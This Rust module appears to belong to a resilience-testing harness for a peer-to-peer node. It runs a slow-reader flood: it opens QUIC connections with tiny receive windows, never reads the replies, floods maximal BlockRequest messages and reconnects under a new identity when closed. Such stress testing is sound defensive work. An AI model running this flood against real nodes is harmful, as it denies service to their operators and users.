//! Block requests as fast as the pace allows, for the longest range the
//! node serves, from a peer that never reads a reply: it accepts no
//! stream the node opens, so everything the node answers piles up in the
//! node's outbound queue and QUIC's send buffer for this peer, until flow
//! control and the node's serving budget hold it back.

use std::time::Duration;

use agora_proto::v1::{BlockRequest, peer_message::Kind};
use tokio::time::Instant;

use super::peer::{Peer, record_close};
use super::{AttackError, Report, Target};

/// Floods `BlockRequest { from_height: 1, count: 512 }` on one connection
/// (coming back as someone new if closed) until `deadline`, about
/// `per_sec` a second. The attacker's QUIC windows are small, so the node
/// can hand it little before flow control stops it.
pub async fn run(target: &Target, deadline: Instant, per_sec: u64) -> Result<Report, AttackError> {
    let mut report = Report::default();
    let request = Kind::BlockRequest(BlockRequest {
        from_height: 1,
        count: 512,
    });
    let per_tick = (per_sec / 100).max(1);
    while Instant::now() < deadline {
        let mut qc = quinn::TransportConfig::default();
        qc.stream_receive_window(16_384u32.into());
        qc.receive_window(65_536u32.into());
        let peer = match Peer::connect_with(target, None, qc).await? {
            Ok(p) => {
                report.connected += 1;
                p
            }
            Err(_) => {
                report.refused += 1;
                continue;
            }
        };
        while Instant::now() < deadline && !peer.is_closed() {
            for _ in 0..per_tick {
                if peer.send(request.clone()).await {
                    report.sent += 1;
                }
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        record_close(&peer, &mut report);
        peer.conn.close(0u32.into(), b"done");
    }
    Ok(report)
}
